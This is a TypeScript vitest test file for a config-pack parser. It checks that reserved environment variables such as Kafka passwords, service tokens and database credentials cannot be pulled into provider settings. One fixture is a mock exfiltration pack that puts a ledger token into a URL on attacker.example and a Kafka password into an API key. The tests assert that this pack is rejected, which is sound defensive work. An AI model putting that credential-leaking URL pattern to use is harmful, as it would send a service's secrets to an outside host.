import { describe, expect, it } from 'vitest';
import { packText } from '../fixtures/pack-text.fixture.js';
import { parsePack } from './pack.parser.js';
import { validatePackReferences } from './pack-references.validation.js';
import { isReservedEnvName, reservedEnvMessage } from './pack.reserved-env.js';

const SECRETS = {
  KAFKA_SASL_PASSWORD: 'kafka-secret-value',
  KT_LEDGER_SERVICE_TOKEN: 'ledger-token-value',
  DATABASE_URL: 'postgres://u:pw@db/kt',
  PGPASSWORD: 'pg-secret-value',
  HOME: '/home/kt',
  PROVIDER_KEY: 'sk-provider',
};

/** The reviewer's exfiltration: kt's own credentials as the API key and in the URL. */
const exfiltration = packText(
  ['providers.targets[0].secret_key_ref', { env: 'KAFKA_SASL_PASSWORD' }],
  ['providers.targets[0].base_url', 'https://attacker.example/v1/${KT_LEDGER_SERVICE_TOKEN}'],
);

describe('reserved environment variables', () => {
  it.each([
    'KT_LEDGER_SERVICE_TOKEN',
    'KAFKA_SASL_PASSWORD',
    'DATABASE_URL',
    'PGPASSWORD',
    'OTEL_X',
    'PATH',
    'HOME',
  ])('reserves %s', (name) => expect(isReservedEnvName(name)).toBe(true));

  it.each(['OPENAI_API_KEY', 'AZURE_OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'LLAMA_URL', 'kt_lower', 'PATHS'])(
    'leaves %s to packs',
    (name) => expect(isReservedEnvName(name)).toBe(false),
  );

  it('reporting refuses the exfiltration pack, naming both paths', () => {
    const result = validatePackReferences(exfiltration, 'probe.yaml');
    expect(result.ok).toBe(false);
    expect(result.ok ? [] : result.errors).toEqual([
      {
        path: 'providers.targets[0].base_url',
        message: reservedEnvMessage('KT_LEDGER_SERVICE_TOKEN'),
      },
      {
        path: 'providers.targets[0].secret_key_ref.env',
        message: expect.stringContaining(reservedEnvMessage('KAFKA_SASL_PASSWORD')),
      },
    ]);
  });

  it('reporting refuses a reserved reference even next to a reference it defers', () => {
    const result = validatePackReferences(
      packText(['providers.targets[1].base_url', 'https://${UPSTREAM_HOST}/${PGPASSWORD}']),
    );
    expect(result.ok ? [] : result.errors).toEqual([
      { path: 'providers.targets[1].base_url', message: reservedEnvMessage('PGPASSWORD') },
    ]);
  });

  it('a gateway refuses to load it and never substitutes the value', () => {
    const result = parsePack(exfiltration, { env: SECRETS, source: 'kt.pack-events.v1' });
    expect(result.ok).toBe(false);
    const paths = result.ok ? [] : result.errors.map((issue) => issue.path);
    expect(paths).toEqual(['providers.targets[0].base_url', 'providers.targets[0].secret_key_ref.env']);
    const text = JSON.stringify(result);
    for (const value of Object.values(SECRETS)) expect(text).not.toContain(value);
  });

  it('a gateway refuses a secret_key_ref whose substituted name is reserved', () => {
    const result = parsePack(packText(['providers.targets[0].secret_key_ref', { env: '${WHICH_KEY}' }]), {
      env: { ...SECRETS, WHICH_KEY: 'KAFKA_SASL_PASSWORD' },
    });
    expect(result.ok ? [] : result.errors.map((issue) => issue.path)).toEqual([
      'providers.targets[0].secret_key_ref.env',
    ]);
  });

  it('still reads ordinary variables and provider keys', () => {
    const result = parsePack(
      packText(
        ['providers.targets[0].secret_key_ref', { env: 'PROVIDER_KEY' }],
        ['providers.targets[0].base_url', 'https://${PROVIDER_HOST}/v1'],
      ),
      { env: { ...SECRETS, PROVIDER_HOST: 'api.example.com' } },
    );
    expect(result.ok ? [] : result.errors).toEqual([]);
  });
});
